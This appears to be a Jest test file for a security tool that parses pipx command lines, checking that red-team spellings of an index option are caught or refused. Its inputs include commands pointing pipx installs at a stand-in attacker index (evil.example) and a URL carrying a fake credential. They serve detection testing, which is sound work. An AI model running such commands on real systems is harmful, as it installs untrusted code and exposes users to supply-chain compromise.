/**
 * pipx read as its own argparse reads it (red team red5 F4): the spellings pipx accepts for
 * an index name it or are refused; options a command does not have are refused. The same
 * cases as tests/deps/test_pipx_cli.py (which also holds the reading to the real pipx).
 */
import { pipxRequest } from './pipx';
import { parsePipx } from './pipxcli';
import { COMMAND_LINE } from './request';
import { shellWords } from './words';
import parseVectors from '../../schema/vectors/pipx-parse.json';

const EVIL = 'https://evil.example/simple';
const context = {
  cwd: '/nonexistent-warden-dir',
  place: COMMAND_LINE,
  env: {},
  readFile: (): string => {
    throw new Error('no files here');
  },
  label: (p: string) => p
};
const read = (text: string) => pipxRequest(shellWords(text), context, {});

describe('pipx option spellings', () => {
  it.each([
    `install --index-u=${EVIL} black`,
    `install --index ${EVIL} black`,
    `install -i${EVIL} black`,
    `install -i=${EVIL} black`,
    `install -qfi${EVIL} black`,
    `install --pip-arg='-i ${EVIL}' black`,
    `install --pip='--index-url=${EVIL}' black`,
    `run --sp=torcj --index-u ${EVIL} black`,
    `inject --index-u=${EVIL} black torcj`,
    `upgrade --index-u=${EVIL} black`
  ])('%s names the index or is refused', text => {
    const request = read(text)!;
    expect(
      request.sources.some(s => s.url === EVIL) || request.problems.length > 0
    ).toBe(true);
  });

  it.each([
    'install --zzz black',
    'install -Z black',
    'run --zzz black',
    'list --zzz',
    'install --in=x black',
    'install black --index-url',
    'install --index-url --force black'
  ])('%s is refused', text => {
    expect(read(text)?.problems.length).toBeGreaterThan(0);
  });

  it('reads as argparse does: attached values, combined flags, + options, remainders', () => {
    expect(parsePipx(shellWords(`install -qeiURL --suffix=_2 a b`))).toEqual({
      command: 'install',
      options: [
        ['quiet', '-q', null],
        ['editable', '-e', null],
        ['index_url', '-i', 'URL'],
        ['suffix', '--suffix', '_2']
      ],
      positionals: ['a', 'b'],
      remainder: null
    });
    // an attached value is a + option's only one (argparse)
    expect(parsePipx(shellWords('pin --skip=a b'))).toMatchObject({
      options: [['skip', '--skip', ['a']]],
      positionals: ['b']
    });
    expect(parsePipx(shellWords('pin --skip a b -q x'))).toMatchObject({
      options: [
        ['skip', '--skip', ['a', 'b']],
        ['quiet', '-q', null]
      ],
      positionals: ['x']
    });
    expect(parsePipx(shellWords('runpip v -q install -i X p'))).toMatchObject({
      positionals: ['v'],
      remainder: ['-q', 'install', '-i', 'X', 'p']
    });
    expect(
      parsePipx(shellWords('run --spec s -- app --index-url X'))
    ).toMatchObject({
      options: [['spec', '--spec', 's']],
      remainder: ['app', '--index-url', 'X']
    });
    expect(parsePipx(shellWords('interpreter frob'))).toMatch(
      /not a pipx command/
    );
  });
});

describe('schema/vectors/pipx-parse.json (shared with tests/deps/test_pipx_cli.py)', () => {
  it.each(parseVectors.vectors.map(v => [v.args.join(' '), v] as const))(
    'pipx %s',
    (_label, vector) => {
      const line = parsePipx(vector.args);
      expect(
        typeof line === 'string'
          ? { refused: true }
          : {
              command: line.command,
              options: line.options,
              positionals: line.positionals,
              remainder: line.remainder
            }
      ).toEqual(vector.expect);
    }
  );
});

describe('red team 6 F13/F16: ~ expanded as pipx expands it', () => {
  it('refuses a ~name PIPX_HOME or install spec the static side cannot expand', () => {
    const withEnv = (text: string, env: Record<string, string>) =>
      pipxRequest(shellWords(text), context, env)!.problems.map(p => p.text);
    expect(withEnv('inject black isort', { PIPX_HOME: '~root/x' })).toEqual([
      expect.stringContaining('~root/x')
    ]);
    expect(
      withEnv('inject black isort', { PIPX_HOME: '~/x', HOME: '/h' })
    ).toEqual([]);
    expect(withEnv("install '~other/s.py'", { HOME: '/h' })).toEqual([
      expect.stringContaining('~other/s.py')
    ]);
  });

  it('refuses runpip and install under such a home too, once', () => {
    const withEnv = (text: string, env: Record<string, string>) =>
      pipxRequest(shellWords(text), context, env)?.problems.map(p => p.text);
    for (const line of ['runpip black install six', 'install --force black']) {
      expect([line, withEnv(line, { PIPX_HOME: '~root/x' })]).toEqual([
        line,
        [expect.stringContaining('~root/x')]
      ]);
    }
  });
});

describe('red team 46b R46b-1: a refusal quotes no credential', () => {
  it.each([
    [
      'run',
      '--pip-args',
      '-q --index-url https://u:SECRETxyz0123@evil.example/simple',
      'x'
    ],
    [
      'install',
      '--index-url',
      '--zzz=https://u:SECRETxyz0123@evil.example/simple',
      'x'
    ],
    ['install', '-qhttps:u:SECRETxyz0123@evil.example', 'x']
  ])('pipx %s %s %s', (...args: string[]) => {
    const line = parsePipx(args);
    expect(typeof line).toBe('string');
    expect(line).not.toContain('SECRETxyz0123');
  });
});

describe('red team 47b: `--` read as pipx on Python 3.11 reads it', () => {
  it.each([
    `inject -- --index-url=${EVIL} black requests`,
    `inject -- -i${EVIL} black requests`,
    `inject -- '--pip-args=--extra-index-url ${EVIL}' black requests`,
    `inject -- black requests --index-url=${EVIL}`
  ])('R47b-1: %s is refused (3.11 reads the index, 3.12.8+ a name)', text => {
    expect(read(text)?.problems.length).toBeGreaterThan(0);
  });

  it('R47b-3: runpip hands pip the words after VENV --, without the --', () => {
    expect(
      parsePipx(shellWords('runpip black -- install requests'))
    ).toMatchObject({
      positionals: ['black'],
      remainder: ['install', 'requests']
    });
    expect(read('runpip black -- install requests')?.problems ?? []).toEqual(
      []
    );
  });
});
